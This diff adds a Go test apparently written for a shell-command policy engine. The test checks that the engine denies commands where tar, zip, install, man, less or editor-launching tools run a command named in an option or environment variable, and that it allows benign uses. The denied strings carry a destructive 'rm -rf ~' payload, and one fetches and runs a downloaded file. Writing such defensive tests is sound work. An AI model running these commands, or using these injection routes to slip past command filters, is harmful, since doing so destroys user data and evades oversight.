@@ -790,3 +790,58 @@ func TestGitConfigRunsCode(t *testing.T) {
 		"git -c protocol.file.allow=always submodule update --init",
 	})
 }
+
+// TestOptionsAndVariablesRunCode: tar, zip, install, man, less and the
+// programs that start an editor run a command named by an option or a
+// variable.
+func TestOptionsAndVariablesRunCode(t *testing.T) {
+	p := mustCompile(t, Default(), testEnv)
+	wantAction(t, p, Deny, []string{
+		"tar -I 'rm -rf ~' -cf a.tar d",
+		"tar -cf a.tar -I'rm -rf ~' d",
+		"tar --use-compress-program='rm -rf ~' -cf a.tar d",
+		"tar --use-compress='rm -rf ~' -cf a.tar d",
+		"tar -xf a.tar --to-command='rm -rf ~'",
+		"tar -xf a.tar --to-command 'rm -rf ~'",
+		"tar --checkpoint=1 --checkpoint-action=exec='rm -rf ~' -cf a.tar d",
+		"tar --info-script='rm -rf ~' -cf a.tar d",
+		"tar -F 'rm -rf ~' -cf a.tar d",
+		"tar --new-volume-script='rm -rf ~' -cf a.tar d",
+		"tar cIf 'rm -rf ~' a.tar d",
+		"TAR_OPTIONS=\"--to-command='rm -rf ~'\" tar -xf a.tar",
+		"zip -TT 'rm -rf ~' -T a.zip f",
+		"zip -T --unzip-command='rm -rf ~' a.zip f",
+		"curl -o s http://x/s; install -s --strip-program=./s a /usr/local/bin/a",
+		"PAGER='rm -rf ~' man ls",
+		"MANPAGER='rm -rf ~' man ls",
+		"man -P 'rm -rf ~' ls",
+		"man --pager='rm -rf ~' ls",
+		"LESSOPEN='|rm -rf ~ %s' less f",
+		"LESSOPEN='||rm -rf ~ %s' less f",
+		"LESSCLOSE='rm -rf ~ %s %s' less f",
+		"EDITOR='rm -rf ~' crontab -e",
+		"VISUAL='rm -rf ~' visudo",
+		"SUDO_EDITOR='rm -rf ~' sudoedit /etc/hosts",
+		"KUBE_EDITOR='rm -rf ~' kubectl edit deploy/x",
+		"SYSTEMD_EDITOR='rm -rf ~' systemctl edit x",
+	})
+	wantAction(t, p, Allow, []string{
+		"tar -I zstd -cf a.tar.zst d",
+		"tar --use-compress-program='zstd -19' -cf a.tar.zst d",
+		"tar -I 'xz -T0' -xf a.tar.xz",
+		"tar czf dist.tgz dist/",
+		"tar xzf a.tgz -C out",
+		"tar -xf a.tar --to-command='sha256sum'",
+		"tar --checkpoint=1000 --checkpoint-action=dot -cf a.tar d",
+		"zip -r a.zip d",
+		"zip -T a.zip f",
+		"install -m 755 -s a bin/a",
+		"install -s --strip-program=strip a bin/a",
+		"PAGER=cat man ls",
+		"MANPAGER='less -R' man ls",
+		"man -P cat ls",
+		"LESSOPEN='|lesspipe %s' less f",
+		"EDITOR=vim crontab -l",
+		"kubectl get pods",
+	})
+}
